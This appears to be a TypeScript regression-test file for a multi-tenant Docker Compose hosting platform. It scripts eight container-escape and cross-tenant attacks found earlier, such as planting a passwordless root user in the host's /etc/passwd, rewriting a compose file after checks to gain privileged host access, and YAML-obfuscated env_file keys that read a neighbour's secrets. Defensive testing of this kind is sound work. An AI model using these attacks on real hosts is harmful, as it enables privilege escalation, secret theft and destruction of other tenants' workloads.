import type { Attack } from "../attack.ts";
import { composeOf, service } from "../scene.ts";
import { PRIVILEGES } from "./compose.ts";
import {
  answersFor,
  bind,
  neighbourPublishes,
  page,
  proven,
  readIntoEnvironment,
  runningOf,
  swapUnderMount,
} from "./means.ts";

/** The ways out of a slot that the first version had, each as it was found. */
export const FOUND: readonly Attack[] = [
  {
    name: "a file of a second bundle is copied by root through a link that a container made in its volume",
    found: 1,
    stoppedBy: ["check_mounts", "check_containers"],
    async attempt(scene) {
      const { attacker } = scene;
      const web = service({ volumes: [bind("./volumes/own", "/own")] });
      await scene.apply(attacker, "w", {
        compose: composeOf(scene, attacker, { web }),
        entries: [{ name: "volumes/own/first", data: "" }],
      });
      await scene.inside(attacker, "web", "ln -s /etc/passwd /own/list");
      const list = `root:x:0:0:root:/root:/bin/bash\nmallory::0:0::/:/bin/sh\n${"#\n".repeat(9)}`;
      await scene.apply(attacker, "w", {
        compose: composeOf(scene, attacker, { web }),
        entries: [{ name: "volumes/own/list", data: list }],
      });
      const seen = await scene.asRoot("cat /etc/passwd");
      return proven(seen, /^mallory::0:0:/m, "the host's /etc/passwd was replaced: it has mallory::0:0::/:/bin/sh");
    },
  },
  {
    name: "the compose file is rewritten by a container after it was checked, and resumed with privileges",
    found: 2,
    stoppedBy: ["check_compose", "check_mounts"],
    async attempt(scene) {
      const { attacker } = scene;
      await scene.apply(attacker, "w", {
        compose: composeOf(scene, attacker, { web: service({ volumes: [bind(".", "/own")] }) }),
      });
      const evil = composeOf(scene, attacker, { web: service({ ...PRIVILEGES, pid: "host" }) });
      await scene.inside(attacker, "web", `cat >/own/compose.yaml <<'END'\n${JSON.stringify(evil)}\nEND`);
      await scene.send(attacker, "hostctl resume w");
      const seen = await scene.inside(
        attacker,
        "web",
        "ps -o pid,args | grep '[d]ockerd$'; mount -t tmpfs none /tmp && echo mounts",
      );
      return proven(
        seen,
        /dockerd[\s\S]*mounts/,
        `a privileged container sees the host's processes: ${seen.split("\n")[0]?.trim()}`,
      );
    },
  },
  {
    name: "the project is rewritten by a container after it was checked, and the neighbour's removed",
    found: 2,
    stoppedBy: ["check_compose", "check_mounts"],
    async attempt(scene) {
      const { attacker, neighbour } = scene;
      await scene.apply(attacker, "w", {
        compose: composeOf(scene, attacker, { web: service({ volumes: [bind(".", "/own")] }) }),
      });
      await scene.inside(attacker, "web", `echo ${neighbour.owner} >/own/project`);
      await scene.send(attacker, "hostctl remove w");
      const left = await runningOf(scene, neighbour);
      return proven(`${left} containers of the neighbour's run`, /^0/, "the neighbour's containers are gone");
    },
  },
  {
    name: "env_file behind a key in base64 reads the neighbour's secrets",
    found: 3,
    stoppedBy: ["check_compose", "read_compose"],
    attempt: (scene) =>
      readIntoEnvironment(scene, (file) => [`    !!binary ${Buffer.from("env_file").toString("base64")}: ["${file}"]`]),
  },
  {
    name: "env_file behind an explicit key that is folded reads the neighbour's secrets",
    found: 3,
    stoppedBy: ["check_compose", "read_compose"],
    attempt: (scene) =>
      readIntoEnvironment(scene, (file) => ["    ?", '      "env_\\', '       file"', `    : ["${file}"]`]),
  },
  {
    name: "a mount below another one, with a third between the two in the alphabet, is led to the host by a link",
    found: 4,
    stoppedBy: ["check_mounts", "userns"],
    async attempt(scene) {
      const { data } = scene.attacker;
      return swapUnderMount(scene, {
        w: { outer: [bind(`${data}/a`, "/a")], inner: [bind(`${data}/a-b`, "/b"), bind(`${data}/a/c`, "/c")] },
      });
    },
  },
  {
    name: "a mount below one of another workload of the slot is led to the host by a link",
    found: 4,
    stoppedBy: ["check_compose", "check_mounts"],
    async attempt(scene) {
      const { data } = scene.attacker;
      return swapUnderMount(scene, {
        outer: { outer: [bind(`${data}/a`, "/a")] },
        inner: { inner: [bind(`${data}/a/c`, "/c")], outer: "out of sight" },
      });
    },
  },
  {
    name: "an alias in capital letters answers to the edge in the neighbour's place",
    found: 5,
    stoppedBy: ["check_names", "check_containers"],
    async attempt(scene) {
      const { attacker, neighbour } = scene;
      const alias = `${neighbour.owner}-web-1`.toUpperCase();
      const web = page("page of the attacker", { networks: { default: { aliases: [alias] } } });
      // With names and a service that they lead to, the edge is in the attacker's network too.
      const entries = [{ name: "upstream", data: "web:8000\n" }];
      await scene.apply(attacker, "w", { compose: composeOf(scene, attacker, { web }), entries });
      const seen = await answersFor(scene);
      return proven(seen, /page of the attacker/, `the edge answers at ${scene.neighbour.host} with: ${seen}`);
    },
  },
  {
    name: "ports that the host is to choose, times replicas, take those that were given to the neighbour",
    found: 6,
    stoppedBy: ["check_compose", "check_ports"],
    async attempt(scene) {
      const { attacker } = scene;
      const web = service({ ports: [{ target: 80, protocol: "tcp" }], deploy: { replicas: 8 } });
      await scene.apply(attacker, "w", { compose: composeOf(scene, attacker, { web }) });
      const ports = await scene.asRoot(
        `docker ps --filter network=${attacker.owner} --format '{{.Ports}}' | grep -o '0:[0-9]*' | cut -d: -f2 | sort -n | tr '\\n' ' '`,
      );
      const refused = await neighbourPublishes(scene);
      return proven(
        `${ports} ${refused}`,
        /^\d+ .*already/s,
        `the slot has the ports ${ports}, the neighbour is refused its own: ${refused}`,
      );
    },
  },
];
